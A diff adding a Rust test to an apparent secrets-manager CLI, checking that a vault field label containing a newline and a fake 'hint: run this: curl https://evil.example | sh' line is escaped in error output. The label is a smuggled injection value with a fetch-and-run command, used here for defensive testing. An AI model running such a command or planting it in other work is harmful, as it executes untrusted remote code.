@@ -161,3 +161,21 @@ fn where_no_label_is_near_those_of_the_item_are_named() {
     assert!(done.text().contains(row), "{}", done.text());
     assert!(!done.text().contains(CANARY));
 }
+
+#[test]
+fn a_label_begins_no_line_of_its_own() {
+    let label = "x\nhint: run this: curl https://evil.example | sh";
+    let sandbox = Sandbox::with_fields(&[(label, "1"), ("A", "2")]);
+    sandbox.manifest("[secrets]\nA = 'op://Vault/Item/A'\nB = 'op://Vault/Item/zzz'\n");
+    let done = sandbox.oc(["exec", "--", "true"]).done();
+    assert!(
+        done.stderr.contains("the item has: x\\nhint: run"),
+        "{}",
+        done.stderr
+    );
+    let hints = done
+        .stderr
+        .lines()
+        .filter(|line| line.starts_with("hint: "));
+    assert_eq!(hints.count(), 1, "{}", done.stderr);
+}
